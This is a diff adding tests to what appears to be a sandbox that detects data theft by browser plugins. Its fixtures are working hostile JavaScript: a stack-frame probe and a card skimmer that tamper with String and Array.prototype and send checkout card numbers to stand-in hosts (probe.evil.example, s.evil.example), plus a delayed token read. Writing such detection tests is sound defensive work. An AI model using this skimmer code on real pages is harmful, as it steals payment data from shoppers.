@@ -237,6 +237,49 @@ def test_a_payload_waiting_for_a_moving_mouse_fires(pool: BrowserPool, tmp_path:
     assert "runtime-exfiltration" in _rules(findings)
 
 
+def test_no_frame_of_ours_gives_its_function_or_receiver_to_mount(
+    pool: BrowserPool, tmp_path: Path
+) -> None:
+    """Structured stack traces show a plugin no function or receiver below its own frame:
+    the command that mounted it (nonce and all) stays out of reach."""
+    body = (
+        "Error.prepareStackTrace = function (e, cs) { return cs; }; var cs = new Error().stack;"
+        " Error.prepareStackTrace = undefined; var got = [];"
+        " cs.slice(1).forEach(function (f) { try { if (f.getFunction() || f.getThis()) got.push(f.getFunctionName()); }"
+        " catch (e) {} });"
+        " navigator.sendBeacon('https://probe.evil.example/frames/' + got.length);"
+    )
+    _, result = _run(pool, _plugin(tmp_path, body))
+    events = json.loads(result.artifacts["trace-user.json"])["events"]
+    probes = [e["url"] for e in events if "probe.evil.example" in str(e.get("url", ""))]
+    assert probes == ["https://probe.evil.example/frames/0"]
+
+
+def test_fields_are_filled_whatever_the_page_did_to_string_and_arrays(
+    pool: BrowserPool, tmp_path: Path
+) -> None:
+    """A skimmer that breaks String and Array.prototype before the host lists the fields
+    still gets a card number typed into the host's form, and is caught sending it."""
+    body = (
+        "var S = String; window.String = new Proxy(S, { apply: function (t, self, a) {"
+        " if (typeof a[0] === 'string' && a[0].indexOf('input:not') === 0) throw new Error('no');"
+        " return Reflect.apply(t, self, a); } });"
+        "Object.defineProperty(Array.prototype, '0', { configurable: true, set: function () {},"
+        " get: function () { return undefined; } });"
+        "document.querySelector('#host-checkout input[name=cardnumber]').addEventListener('input',"
+        " function (e) { navigator.sendBeacon('https://s.evil.example/c', e.target.value); });"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+
+
+def test_a_token_read_after_unmount_is_counted(pool: BrowserPool, tmp_path: Path) -> None:
+    tail = "return function () { setTimeout(function () { ctx.auth.getToken(); }, 30000); };"
+    _, result = _run(pool, _plugin(tmp_path, tail))
+    events = json.loads(result.artifacts["trace-user.json"])["events"]
+    assert [e["count"] for e in events if e["type"] == "token-read"] == [1]
+
+
 def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
     """Ticks that do nothing we record are not capped: a payload that acts after 500
     ticks of a one-second interval (eight minutes on the page) fires within the jumps."""
